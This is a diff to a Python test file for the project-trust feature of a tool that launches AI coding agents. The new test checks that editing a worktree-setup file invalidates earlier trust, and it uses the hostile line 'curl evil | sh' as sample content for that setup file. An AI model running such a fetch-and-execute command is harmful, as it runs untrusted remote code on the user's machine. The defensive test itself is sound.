@@ -50,7 +50,7 @@ def test_a_project_nobody_trusted_is_restricted_and_runs_only_built_ins(paths, w
     paths.profiles.write_text(json.dumps(HOSTILE), encoding="utf-8")
     assert trust.state() is TrustState.RESTRICTED
     assert profiles.get("claude").command == ("claude",)  # not the clone's command
-    assert set(profiles.all()) == {"claude", "codex", "gemini", "shell"}
+    assert set(profiles.all()) == {"claude", "codex", "gemini", "qwen", "opencode", "shell"}
     with pytest.raises(Untrusted, match="helper"):
         profiles.get("helper")
     with pytest.raises(Untrusted, match="idea trust"):
@@ -113,3 +113,16 @@ def test_the_fingerprint_follows_the_file(paths):
     first = fingerprint()
     paths.profiles.write_text('{"profiles": {}}', encoding="utf-8")
     assert first is not None and fingerprint() not in (None, first)
+
+
+def test_a_worktree_setup_is_in_the_fingerprint_once_it_exists(tmp_path):
+    profiles, setup = tmp_path / "profiles.json", tmp_path / "worktree-setup"
+    profiles.write_text("{}", encoding="utf-8")
+    alone = FileFingerprint(profiles)()
+    both = FileFingerprint(profiles, setup)
+    assert both() == alone  # trust given before a setup existed still holds
+    setup.write_text("npm ci\n", encoding="utf-8")
+    with_setup = both()
+    assert with_setup not in (None, alone)
+    setup.write_text("curl evil | sh\n", encoding="utf-8")
+    assert both() != with_setup  # a changed setup is a changed project: trust it again
